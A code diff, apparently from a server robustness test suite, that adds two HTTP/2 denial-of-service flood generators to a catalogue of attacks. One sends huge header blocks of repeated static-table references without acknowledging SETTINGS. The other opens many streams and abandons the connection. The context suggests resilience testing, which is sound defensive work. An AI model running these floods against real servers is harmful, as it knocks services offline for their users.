@@ -61,6 +61,22 @@ def remembered_metadata_flood(times: int = 4_000) -> Script:
         yield b"".join(http2.header_frames(stream, block)) + http2.data_frames(stream, http2.message(b""))
 
 
+def unacknowledged_references(times: int = 60_000) -> Script:
+    """Calls with a field of the static table repeated so often, an octet each; SETTINGS are never acknowledged."""
+    yield _greeting(ack=False)
+    block = http2.request_block(TOKEN) + http2.ACCEPT_ENCODING * times
+    for stream in _streams():
+        yield from _in_bundles(b"".join(http2.header_frames(stream, block)))
+
+
+def headers_and_gone(streams: int = 32) -> Script:
+    """So many calls whose message never comes, on a connection that ends at once."""
+    block = http2.request_block(TOKEN)
+    numbers = _streams()
+    calls = (b"".join(http2.header_frames(next(numbers), block)) for _ in range(streams))
+    yield _greeting() + b"".join(calls)
+
+
 def continuation_flood() -> Script:
     """One header block that never ends."""
     yield _greeting(ack=False)
@@ -220,6 +236,8 @@ ATTACKS: Mapping[str, Callable[[bytes], Flood]] = MappingProxyType(
         "rapid reset of no method": lambda _: Flood(partial(rapid_reset, "/no/Such"), 3),
         "metadata": lambda _: Flood(metadata_flood, 4),
         "metadata by reference": lambda _: Flood(remembered_metadata_flood, 4),
+        "references without an acknowledgement": lambda _: Flood(unacknowledged_references, 12),
+        "connections with calls, and gone": lambda _: Flood(headers_and_gone, 6, renews=True),
         "endless header block": lambda _: Flood(continuation_flood, 4),
         "oversize messages": lambda _: Flood(oversize_messages, 8),
         "many messages": lambda _: Flood(many_messages, 4),
